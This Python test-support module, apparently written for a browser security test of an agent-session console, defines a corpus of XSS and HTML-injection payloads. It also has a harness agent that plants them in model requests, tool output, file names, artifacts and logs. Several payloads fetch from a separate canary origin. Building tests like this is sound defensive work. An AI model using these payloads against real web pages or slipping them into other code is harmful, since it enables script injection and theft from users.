"""Injection payloads a real session plants everywhere the policy writes, for the console's
browser test (tests/system/test_console_browser.py).

`payloads(canary)` is the corpus: script, event handlers, `javascript:` and `data:` links,
SVG, a textarea and a pre broken out of, CSS, frames, meta refresh, base, forms, mXSS and
unicode bidi; each sets `window.__pwned` or fetches from `canary` (another origin) if it
ever runs. `plant(repo, payloads)` puts into a task's repo an agent that carries them into
the session's model requests, tool output, files (names and content: the patch),
artifact names, stdout and stderr; `hostile_replies` are the model's replies to it (a
tool call and a text, both full of payloads) and `HOSTILE_EVALUATOR` prints them too.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.scripted_backend import ScriptedReply, text, tool_call

PWNED = "window.__pwned=1"


def payloads(canary: str) -> list[str]:
    """The corpus; `canary`: the base URL of an origin that counts what is fetched from it."""
    return [
        f"<script>{PWNED}</script>",
        f'<img src=x onerror="{PWNED}">',
        f'"><img src=x onerror={PWNED}>',
        f"' onmouseover='{PWNED}",
        f'<a href="javascript:{PWNED}">click me</a>',
        f"javascript:{PWNED}",
        f"[click](javascript:{PWNED})",
        f'<svg onload="{PWNED}"><circle r="9"></circle></svg>',
        f"</textarea><script>{PWNED}</script>",
        f"</pre><script>{PWNED}</script><pre>",
        f"<style>body{{background:url({canary}/css-bg)}}</style>",
        f'<link rel="stylesheet" href="{canary}/sheet.css">',
        f'<div style="width: expression({PWNED}); background: url({canary}/inline)">css</div>',
        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        f'<iframe src="{canary}/frame"></iframe>',
        '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
        f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
        f'<base href="{canary}/">',
        f'<object data="{canary}/object"></object><embed src="{canary}/embed">',
        f'<form action="{canary}/form"><button>send</button></form>',
        f'<details open ontoggle="{PWNED}">x</details>',
        f'<input autofocus onfocus="{PWNED}">',
        f'<noscript><p title="</noscript><img src=x onerror={PWNED}>">',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{PWNED}">',
        f'<script src="{canary}/script.js"></script>',
        f'<img src="{canary}/pixel.png">',
        "<script>alert(1)</script>",
        "{{ 7*7 }} {% raw %} ${7*7}",
        "invoice\u202egnp.exe \u2066isolate\u2069 \u200fmark",
    ]


HOSTILE_AGENT = '''"""A harness that writes the injection corpus everywhere it can."""
import json, os, pathlib, sys, urllib.request

PAYLOADS = json.loads(pathlib.Path("payloads.json").read_text())
HOSTILE = "\\n".join(PAYLOADS)
TOOLS = [{"type": "function", "function": {"name": "write_file", "parameters": {
    "type": "object", "properties": {"path": {"type": "string"}, "text": {"type": "string"}}}}}]


def call(messages):
    body = json.dumps({"model": os.environ["POLAR_MODEL"], "messages": messages,
                       "tools": TOOLS, "max_tokens": 64}).encode()
    request = urllib.request.Request(os.environ["POLAR_BASE_URL"] + "/chat/completions", body,
        {"content-type": "application/json",
         "authorization": "Bearer " + os.environ["POLAR_API_KEY"]})
    with urllib.request.urlopen(request, timeout=60) as response:
        return json.load(response)["choices"][0]["message"]


messages = [{"role": "system", "content": "You are a careful coding agent."},
            {"role": "user", "content": os.environ.get("POLAR_INSTRUCTION", "") + "\\n" + HOSTILE}]
first = call(messages)
messages.append({"role": "assistant", "content": first.get("content") or "",
                 "tool_calls": first.get("tool_calls") or []})
for c in first.get("tool_calls") or []:
    output = "tool output:\\n" + HOSTILE
    messages.append({"role": "tool", "tool_call_id": c["id"], "content": output})
pathlib.Path("answer.txt").write_text(call(messages).get("content") or "")
artifacts = pathlib.Path(os.environ["POLAR_ARTIFACTS_DIR"])
artifacts.mkdir(parents=True, exist_ok=True)
for payload in PAYLOADS:
    if "/" not in payload and len(payload.encode()) < 200:
        pathlib.Path(payload).write_text(payload + "\\n")  # a file of the patch, named by it
        (artifacts / payload).write_text(payload + "\\n")  # an artifact named by it
pathlib.Path("hostile.txt").write_text(HOSTILE + "\\n")
print(HOSTILE)
print(HOSTILE, file=sys.stderr)
'''

HOSTILE_COMMAND = "python hostile_agent.py"
HOSTILE_EVALUATOR = "cat answer.txt; cat hostile.txt >&2; test -s answer.txt"


def plant(repo: Path, corpus: list[str]) -> None:
    """The hostile agent and its payloads in `repo` (run it with HOSTILE_COMMAND)."""
    (repo / "hostile_agent.py").write_text(HOSTILE_AGENT)
    (repo / "payloads.json").write_text(json.dumps(corpus))


def hostile_replies(corpus: list[str]) -> list[ScriptedReply]:
    """The model's two replies to the hostile agent: a tool call, then a text."""
    hostile = "\n".join(corpus)
    return [
        tool_call("write_file", {"path": corpus[1], "text": hostile}),
        text(f"Done.\n{hostile}"),
    ]


def file_named(payload: str) -> bool:
    """Whether the hostile agent names a file (and an artifact) by `payload`."""
    return "/" not in payload and len(payload.encode()) < 200
